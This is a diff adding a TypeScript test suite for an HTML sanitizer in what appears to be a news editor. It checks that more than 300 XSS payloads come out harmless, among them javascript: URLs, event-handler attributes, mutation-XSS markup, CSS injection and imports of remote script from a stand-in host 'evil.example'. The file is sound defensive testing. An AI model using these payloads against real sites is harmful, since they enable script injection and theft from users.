@@ -1,0 +1,96 @@
+import { parse, type DefaultTreeAdapterTypes } from 'parse5';
+import { cleanHtml, cleanLine, foreignPictures, isEmptyBody, isOwnPicture, textOfHtml } from './html.rules.ts';
+
+const scripts = ['alert(1)', 'import("//evil.example/x.js")', 'eval(atob("YQ=="))'];
+const tags = ['img', 'a', 'p', 'body', 'video', 'audio', 'details', 'svg', 'math', 'input', 'marquee', 'object', 'table', 'iframe'];
+const events = ['onerror', 'onload', 'onclick', 'ontoggle', 'onfocus', 'onpointerenter', 'onanimationstart', 'onbegin', 'ONERROR', 'on\u0000error'];
+const urls = ['javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'java\tscript:alert(1)', '&#106;avascript:alert(1)', ' javascript:alert(1)', 'data:text/html,<script>alert(1)</script>', 'vbscript:x', '\u0001javascript:alert(1)', '//evil.example/x', 'file:///etc/passwd', 'blob:x'];
+const styles = ['position:fixed;top:0', 'background:url(//evil.example/x)', 'width:expression(alert(1))', 'z-index:999999', 'behavior:url(x.htc)', '-moz-binding:url(x)', 'color:red;position:absolute', 'background-color:url(x)', 'font-family:"x";position:sticky', 'line-height:9999', 'text-indent:-9999px', 'color:re\\64'];
+const shapes = [
+  '<script>alert(1)</script>', '<scr<script>ipt>alert(1)</script>', '<svg><script>alert(1)</script></svg>', '<svg/onload=alert(1)>', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<iframe srcdoc="<script>alert(1)</script>"></iframe>', '<style>@import "//evil.example"</style>', '<link rel=stylesheet href=//evil.example>',
+  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">', '<base href="//evil.example/">', '<form action="javascript:alert(1)"><button>x</button></form>', '<template><script>alert(1)</script></template>',
+  '</textarea><script>alert(1)</script>', '<!--<img src=x onerror=alert(1)>-->', '<![CDATA[<script>alert(1)</script>]]>', '<p><a href="https://a.cn" onclick="alert(1)">x', '<img src="x" srcset="javascript:alert(1) 1x">',
+  '<a href="https://x.cn" style="display:block;position:fixed;inset:0">x</a>', '<p class="ant-modal-mask ql-align-center evil">x</p>', '<p id="root">x</p>', '<a name="x" href=https://x.cn>x</a>', '<p dir=rtl>\u202etxt</p>',
+];
+const corpus = [
+  ...tags.flatMap((tag) => events.flatMap((event) => scripts.slice(0, 2).map((script) => `<${tag} src=x ${event}='${script}'>文</${tag}>`))),
+  ...urls.flatMap((url) => [`<a href="${url}">文</a>`, `<img src="${url}">`, `<svg><a xlink:href="${url}">x</a></svg>`]),
+  ...styles.map((style) => `<p style="${style}">文</p>`),
+  ...shapes,
+];
+
+const allowedTags = new Set('p h1 h2 h3 strong em u s a ul ol li blockquote img br hr span table thead tbody tr td th figure figcaption html head body'.split(' '));
+const allowedAttributes = new Set('class style href title target rel src alt width height colspan rowspan scope data-list'.split(' '));
+
+/** Everything in a browser's reading of cleaned HTML that could run, load from elsewhere or lie over the page. */
+function dangers(html: string): string[] {
+  const found: string[] = [];
+  const visit = (node: DefaultTreeAdapterTypes.Node) => {
+    if ('tagName' in node) {
+      if (!allowedTags.has(node.tagName)) found.push(`<${node.tagName}>`);
+      for (const { name, value } of node.attrs) {
+        if (!allowedAttributes.has(name)) found.push(`${node.tagName} ${name}`);
+        if (name === 'href' && !/^(https?:|mailto:|tel:|\/(?!\/)|#|[\w.]+$)/i.test(value)) found.push(`href ${value}`);
+        if (name === 'src' && !/^(https?:|\/(?!\/)|[\w.]+$)/i.test(value)) found.push(`src ${value}`);
+        if (name === 'style' && /position|url|expression|z-index|binding|behavior|\\/i.test(value)) found.push(`style ${value}`);
+        if (name === 'class' && !value.split(' ').every((word) => word.startsWith('ql-'))) found.push(`class ${value}`);
+      }
+      if (node.tagName === 'a' && !node.attrs.some(({ name, value }) => name === 'rel' && value.includes('noopener'))) found.push('a without rel');
+    }
+    if ('childNodes' in node) node.childNodes.forEach(visit);
+  };
+  visit(parse(html));
+  return found;
+}
+
+describe('cleanHtml', () => {
+  it(`A51 A53 A54 lets nothing of ${corpus.length} payloads run`, () => {
+    expect(corpus.length).toBeGreaterThan(300);
+    expect(corpus.flatMap((payload) => dangers(cleanHtml(payload)).map((danger) => `${payload} → ${danger}`))).toEqual([]);
+  });
+
+  it('gives the same when cleaned twice', () => {
+    for (const payload of corpus) expect(cleanHtml(cleanHtml(payload))).toBe(cleanHtml(payload));
+  });
+
+  it('keeps what the editor makes', () => {
+    const story =
+      '<h1>题</h1><p class="ql-align-center ql-indent-2" style="text-align:center;color:#ff0000">文<strong>粗</strong><em>斜</em><u>线</u><s>删</s></p><ul><li data-list="bullet">项</li></ul>' +
+      '<blockquote>引</blockquote><p><img src="/files/a.jpg" alt="图" width="600" /></p><table><tbody><tr><td colspan="2">格</td></tr></tbody></table>';
+    expect(cleanHtml(story)).toBe(story);
+  });
+
+  it('A53 keeps plain styles and drops the rest of the attribute', () => {
+    expect(cleanHtml('<p style="color:red;position:fixed;line-height:1.5">x</p>')).toBe('<p style="color:red;line-height:1.5">x</p>');
+  });
+});
+
+describe('text of a body', () => {
+  it.each([
+    ['<p>一</p><p>二<br>三</p>', '一\n二\n三'],
+    ['<p>a &amp; b &lt;p&gt; &#20013;&nbsp;&#x6587;</p>', 'a & b <p> 中 文'],
+    ['<p><img src="/files/a.jpg"></p>', ''],
+    ['', ''],
+  ])('%s', (html, text) => expect(textOfHtml(html)).toBe(text));
+
+  it('is empty without text and picture', () => {
+    expect(isEmptyBody('<p><br></p><p>&nbsp; </p>')).toBe(true);
+    expect(isEmptyBody('<p><img src="/files/a.jpg" /></p>')).toBe(false);
+  });
+
+  it('A50 makes titles one plain line', () => {
+    expect(cleanLine(' 标\u0000题\u202e\r\n 二\u2066 ')).toBe('标题 二');
+  });
+});
+
+describe('pictures of our own', () => {
+  it.each([
+    ['/files/2026/a.jpg', true], ['https://news.example/files/a.jpg', true], ['https://news.example.evil.com/a.jpg', false], ['/other/a.jpg', false], ['/files/../etc', false],
+    ['//news.example/files/a.jpg', false], ['https://other.example/a.jpg', false],
+  ])('%s: %s', (source, isOwn) => expect(isOwnPicture(source, ['https://news.example'])).toBe(isOwn));
+
+  it('names the foreign ones in order', () => {
+    expect(foreignPictures('<img src="https://b.cn/1.jpg"><img src="/files/a"><img src="https://a.cn/2.jpg?x=1&amp;y=2">', [''])).toEqual(['https://b.cn/1.jpg', 'https://a.cn/2.jpg?x=1&y=2']);
+  });
+});
